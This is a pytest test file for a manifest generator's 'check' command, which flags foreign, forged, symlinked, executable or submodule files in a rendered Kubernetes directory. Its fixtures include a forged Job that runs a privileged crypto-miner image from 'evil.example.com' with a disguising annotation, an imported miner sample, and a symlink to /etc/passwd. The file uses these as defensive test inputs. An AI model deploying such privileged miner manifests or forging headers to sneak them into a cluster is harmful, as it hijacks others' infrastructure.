"""Everything in `rendered/` that a render would not write is an error of `gen check`."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

import pytest

from gen.base.findings import UsageError
from gen.render.emit import digest_of, header
from tests.adversary.miner import MINER
from tests.history import History

if TYPE_CHECKING:
    from gen.report.formats import Report
    from tests.support import Repository

JOB = "kind: pytorch\nimage: registry.example.com/train:1\ncommand: python train.py\ndata: {nas: /data}\n"
RUN = "rendered/dev/jobs/team/demo/pytorchjob-demo.yaml"
VOLUME = "rendered/dev/storage/team/persistentvolume-team-nas.yaml"
CLAIM = "rendered/dev/storage/team/persistentvolumeclaim-nas.yaml"
FORGED_JOB = """\
apiVersion: batch/v1
kind: Job
metadata:
  name: zz
  namespace: team
  annotations:
    kind: PersistentVolume
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - {name: zz, image: evil.example.com/miner:1, securityContext: {privileged: true}}
"""


def forged(text: str, source: str = "overlays/dev/overlay.yaml") -> str:
    """A text with a valid header, which anyone can compute."""
    return header(source, digest_of(text)) + text


@pytest.fixture
def rendered(repo: Repository) -> Repository:
    repo.job(JOB)
    assert repo.render()[1] == 0
    return repo


@pytest.fixture
def committed(history: History) -> History:
    history.job(JOB)
    history.commit("base")
    return history


def errors(report: Report) -> set[tuple[str, str]]:
    return {(f.code, f.place.file) for f in report.findings if f.severity.value == "error"}


def check(repository: Repository) -> tuple[set[tuple[str, str]], int]:
    report, code = repository.check()
    return errors(report), code


def stage(history: History, mode: str, path: str) -> None:
    """Add an entry to the index without a file in the work tree."""
    digest = (
        history.git("rev-parse", "HEAD")
        if mode == "160000"
        else history.git("hash-object", "-w", f"{history.root}/{RUN}")
    )
    history.git("update-index", "--add", "--cacheinfo", f"{mode},{digest},{path}")


def test_a1_foreign_file_is_an_error(rendered: Repository) -> None:
    path = "rendered/dev/jobs/team/zz/deployment-zz.yaml"
    rendered.write(path, MINER)
    assert check(rendered) == ({("foreign-file", path)}, 1)


@pytest.mark.parametrize(
    "path", ["README.md", "dev/x.yml", "dev/jobs/team/x.json", "argocd/dev/app.yaml", "x", "dev/storage/team/x.yaml"]
)
def test_a1_no_other_file_is_accepted(rendered: Repository, path: str) -> None:
    rendered.write(f"rendered/{path}", "text\n")
    assert check(rendered) == ({("foreign-file", f"rendered/{path}")}, 1)


def test_a1_an_overlay_lists_other_files(rendered: Repository) -> None:
    overlay = rendered.root / "overlays/dev/overlay.yaml"
    overlay.write_text(overlay.read_text() + "rendered: {keep: [README.md, 'dev/*/NOTES.txt']}\n")
    rendered.write("rendered/README.md", "# about\n")
    rendered.write("rendered/dev/jobs/NOTES.txt", "text\n")
    assert check(rendered) == (set(), 0)
    for cache in (None, rendered.root.parent / "cache", rendered.root.parent / "cache"):
        assert rendered.render(cache=cache)[1] == 0
    rendered.write("rendered/dev/README.md", "not listed\n")
    assert check(rendered) == ({("foreign-file", "rendered/dev/README.md")}, 1)


def test_a1_a_listed_file_is_a_regular_file_and_configures_nothing(rendered: Repository) -> None:
    overlay = rendered.root / "overlays/dev/overlay.yaml"
    overlay.write_text(overlay.read_text() + "rendered: {keep: ['*.md']}\n")
    (rendered.root / "rendered/link.md").symlink_to("/etc/passwd")
    rendered.write("rendered/.argocd-source-x.md", "a\n")
    rendered.write("rendered/run.md", "a\n").chmod(0o755)
    expected = {
        ("foreign-file", "rendered/link.md"),
        ("control-file", "rendered/.argocd-source-x.md"),
        ("executable-file", "rendered/run.md"),
    }
    assert check(rendered) == (expected, 1)


@pytest.mark.parametrize(
    "pattern", ["*", "*.yaml", "x.json", "../x.md", "a/../x.md", ".md", "*.jsonnet", "/x.md", "x.yml"]
)
def test_a1_manifests_cannot_be_listed(rendered: Repository, pattern: str) -> None:
    overlay = rendered.root / "overlays/dev/overlay.yaml"
    overlay.write_text(overlay.read_text() + f"rendered: {{keep: ['{pattern}']}}\n")
    assert {finding.code for finding in rendered.check()[0].findings} == {"invalid-value"}


@pytest.mark.parametrize(
    "path",
    ["dev/jobs/team/zz/job-zz.yaml", "dev/storage/team/job-zz.yaml", "dev/storage/team/persistentvolume-zz.yaml"],
)
def test_a2_forged_unused_storage_is_not_data(rendered: Repository, path: str) -> None:
    rendered.write(f"rendered/{path}", forged(FORGED_JOB))
    report, code = rendered.check()
    assert code == 1
    assert [(change.path, change.status.value) for change in report.changes] == [(f"rendered/{path}", "leftover")]
    assert rendered.render()[1] == 0
    assert not (rendered.root / "rendered" / path).exists()


def test_a2_data_is_accepted_only_in_its_own_file(rendered: Repository) -> None:
    text = (rendered.root / CLAIM).read_text()
    rendered.job(JOB.replace("data: {nas: /data}\n", ""))
    rendered.render()
    assert check(rendered) == (set(), 0), "unused, and unchanged since it was rendered"
    for path in ("dev/storage/other/persistentvolumeclaim-nas.yaml", "dev/storage/team/persistentvolumeclaim-zz.yaml"):
        file = rendered.write(f"rendered/{path}", text)
        assert check(rendered) == ({("foreign-file", f"rendered/{path}")}, 1)
        file.unlink()
        if not any(file.parent.iterdir()):
            file.parent.rmdir()
    (rendered.root / CLAIM).write_text(text.replace("10Gi", "9Gi"))
    assert check(rendered) == ({("hand-edited", CLAIM)}, 1)
    (rendered.root / CLAIM).write_bytes(text.replace("\n", "\r\n").encode())
    assert check(rendered) == (set(), 0), "Git may convert line ends"


@pytest.mark.parametrize(
    "place", ["dev/jobs/team/demo/extra.yaml", "gone/x.yaml", "x.yaml", "dev/x.yaml", "old/a/b/c/d.yaml"]
)
@pytest.mark.parametrize("path", [VOLUME, CLAIM])
def test_data_in_another_file_is_an_error_and_is_not_removed(rendered: Repository, path: str, place: str) -> None:
    stray = rendered.write(f"rendered/{place}", (rendered.root / path).read_bytes().replace(b"\n", b"\r\n"))
    report, code = rendered.render()
    assert (code, report.changes) == (1, ())
    assert [(f.code, f.place.file) for f in report.findings] == [("foreign-file", f"rendered/{place}")]
    assert stray.exists()
    assert rendered.render(prune_storage=True)[1] == 0
    assert not stray.exists()


@pytest.mark.parametrize(
    "text",
    [
        '{"apiVersion": "v1", "kind": "PersistentVolume"}',
        "'kind': 'PersistentVolumeClaim'",
        "kind: PersistentVolume\napiVersion: v2\nmetadata: [1]\n",
        "a: b\n---\nkind:  PersistentVolume",
        "kind: PersistentVolume\nkind: Job\n",
        "kind: PersistentVolume\na: \xff",
    ],
)
@pytest.mark.parametrize("place", ["rendered/dev/jobs/x.yaml", "rendered/dev/storage/team/persistentvolume-x.yaml"])
def test_a_file_that_may_be_data_is_not_removed_in_any_form(rendered: Repository, place: str, text: str) -> None:
    first = (rendered.root / RUN).read_text().splitlines()[0]
    rendered.write(place, f"{first}\n{text}\n".encode("latin-1"))
    report, code = rendered.render()
    assert (code, [(f.code, f.severity.value) for f in report.findings]) == (1, [("foreign-file", "error")])
    assert (rendered.root / place).exists()


@pytest.mark.parametrize("path", ["rendered/dev/x", "rendered/sub", "rendered", "jobs/team", "overlays/x", "jobs/sub"])
def test_a3_a_submodule_in_the_index_is_an_error(committed: History, path: str) -> None:
    if path in ("rendered", "jobs/team"):
        committed.git("rm", "-r", "--cached", "--quiet", path)
    stage(committed, "160000", path)
    assert check(committed) == ({("submodule", path)}, 1)


@pytest.mark.parametrize("path", [".gitmodules", "rendered/.gitmodules", "docs/a/.gitmodules", "jobs/x/y/.gitmodules"])
def test_a3_gitmodules_at_any_level_is_an_error(committed: History, path: str) -> None:
    stage(committed, "100644", path)
    assert check(committed) == ({("control-file", path)}, 1)


def test_a3_gitmodules_without_git_is_an_error(rendered: Repository) -> None:
    rendered.write(".gitmodules", "[submodule]\n")
    assert check(rendered) == ({("control-file", ".gitmodules")}, 1)


def test_a3_an_empty_folder_is_an_error_that_render_removes(rendered: Repository) -> None:
    (rendered.root / "rendered/dev/jobs/sub/a").mkdir(parents=True)
    assert check(rendered) == ({("empty-folder", "rendered/dev/jobs/sub/a")}, 1)
    assert rendered.render()[1] == 0
    assert not (rendered.root / "rendered/dev/jobs/sub").exists()
    assert check(rendered) == (set(), 0)


def test_a3_an_executable_file_is_an_error_that_render_corrects(committed: History) -> None:
    (committed.root / RUN).chmod(0o755)
    assert check(committed) == ({("executable-file", RUN)}, 1)
    committed.git("config", "core.fileMode", "false")
    assert check(committed) == (set(), 0), "a file system without modes"
    committed.git("update-index", "--chmod=+x", RUN)
    assert check(committed) == ({("executable-file", RUN)}, 1)
    committed.git("config", "core.fileMode", "true")
    committed.rendering()
    committed.git("add", "--all")
    assert check(committed) == (set(), 0)


def test_a3_a_link_in_the_index_is_an_error(committed: History) -> None:
    stage(committed, "120000", RUN)
    assert check(committed) == ({("not-a-file", RUN)}, 1)


def test_a3_temporary_files_are_an_error_that_render_corrects(committed: History) -> None:
    committed.write("rendered/.gen.tmp/0", MINER)
    assert check(committed) == ({("temporary-files", "rendered/.gen.tmp")}, 1)
    committed.git("add", "--all")
    committed.rendering()
    assert check(committed) == ({("temporary-files", "rendered/.gen.tmp")}, 1), "they are still in the index"
    committed.git("add", "--all")
    assert check(committed) == (set(), 0)


def test_a3_an_unreadable_index_is_not_accepted(committed: History) -> None:
    (committed.root / ".git/index").write_bytes(hashlib.sha256(b"").digest())
    with pytest.raises(UsageError, match="Git cannot read its index"):
        committed.check()


def test_a3_without_the_program_files_are_still_checked(committed: History, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    assert check(committed) == (set(), 0)
    committed.write("rendered/x.yaml", MINER)
    assert check(committed) == ({("foreign-file", "rendered/x.yaml")}, 1)


def test_line_ends_of_windows_are_the_named_cause(repo: Repository) -> None:
    """As in a checkout of Git with `core.autocrlf` and without `.gitattributes`."""
    repo.job(JOB)
    repo.render()
    files = [path for path in (repo.root / "rendered").rglob("*") if path.is_file()]
    for path in files:
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    report, code = repo.check()
    assert code == 1
    assert "with the line ends of Windows, which `core.autocrlf` of Git writes" in report.summary
    assert "edited by hand" not in report.summary
    assert repo.render()[1] == 0
    assert repo.check()[1] == 0
